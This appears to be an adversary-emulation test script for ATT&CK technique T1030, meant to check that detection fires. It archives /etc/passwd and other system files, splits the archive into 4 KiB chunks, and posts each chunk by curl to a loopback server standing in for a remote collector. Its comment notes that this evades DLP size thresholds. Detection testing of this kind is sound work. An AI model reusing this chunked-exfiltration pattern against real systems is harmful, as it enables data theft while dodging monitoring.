# technique: T1030
# tactic: exfiltration
# name: Staged archive split into 4 KiB chunks with split -b and sent one chunk per request
# expect: detected
. "$EMULATION_LIB"
need python3 curl tar split timeout ss
loopback_up
# Small chunks stay under DLP and proxy size thresholds and blend in with ordinary requests.
# 127.10.20.31 on the private loopback stands for the remote collector.
cat > collector.py <<'PY'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        with open("received.bin", "ab") as f: f.write(self.rfile.read(n))
        self.send_response(204); self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer(("127.10.20.31", 8080), H).serve_forever()
PY
timeout 9 python3 collector.py &
server=$!
i=0; until ss -ltn | grep -q '127.10.20.31:8080 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
tar -czf data.tgz /etc/ssl/openssl.cnf /etc/services /etc/passwd 2>/dev/null
split -b 4k -d data.tgz part.
for p in part.*; do
	curl -s --max-time 2 --data-binary "@$p" "http://127.10.20.31:8080/s?n=$p" >/dev/null
done
kill "$server" 2>/dev/null || true
wait "$server" 2>/dev/null || true
cmp -s data.tgz received.bin
